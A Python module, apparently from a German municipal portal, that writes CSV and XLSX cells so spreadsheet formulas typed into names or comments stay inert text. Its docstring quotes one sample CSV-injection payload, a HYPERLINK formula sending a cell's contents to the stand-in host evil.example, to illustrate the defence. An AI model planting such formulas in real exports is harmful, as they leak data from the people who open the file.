"""CSV and XLSX cells that stay inert, whatever people typed into names and comments.

A municipality named `=HYPERLINK("http://evil.example/?x="&A1;"Klick")` must arrive in the
treasurer's Excel as that text, not as a live formula (CSV injection, OWASP). OWASP's rule: a cell
that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote
in CSV. In XLSX the text is stored as a string cell marked `quotePrefix` (Excel's own leading
apostrophe), so the value stays exactly what was typed and never becomes a formula.

Numbers are passed as numbers (int, Decimal, float) and are never touched: a negative amount
stays a number in both formats. Every export of the portal writes its cells through here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

from izd import formats

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """The text for a CSV cell: prefixed with `'` when a spreadsheet would read a formula."""
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def decimal_comma(places: int) -> Callable[[Decimal | float], str]:
    """A number as German Excel reads it: `1234.5` → `1234,50` (no thousands separator)."""

    def fmt(value: Decimal | float) -> str:
        return formats.plain_number(value, places)

    return fmt


TWO_PLACES = decimal_comma(2)


def csv_cell(value: Any, number: Callable[[Decimal | float], str]) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nein"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal | float):
        return number(value)
    if isinstance(value, datetime):
        return value.strftime("%d.%m.%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d.%m.%Y")
    return neutralise(str(value))


def csv_bytes(
    rows: Iterable[Sequence[Any]], *, number: Callable[[Decimal | float], str] = TWO_PLACES
) -> bytes:
    """Rows as CSV for a German Excel: semicolons, CRLF, UTF-8 with a byte order mark (so that
    Excel reads umlauts), every text cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_cell(cell, number) for cell in row])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_text(text: str) -> str:
    """The text as XLSX can hold it: control characters that XML forbids become U+FFFD, and
    line breaks are LF (an XML reader turns a CR into LF anyway)."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)


def xlsx_append(sheet: Worksheet, values: Sequence[Any]) -> None:
    """Append a row; every text cell is a string cell, never a formula or an error value."""
    sheet.append([xlsx_text(v) if isinstance(v, str) else v for v in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=row, column=column)
            # openpyxl makes "=…" a formula and "#N/A" an error value; text it is.
            cell.data_type = "s"
            if value.startswith(FORMULA_TRIGGERS):
                cell.quotePrefix = True
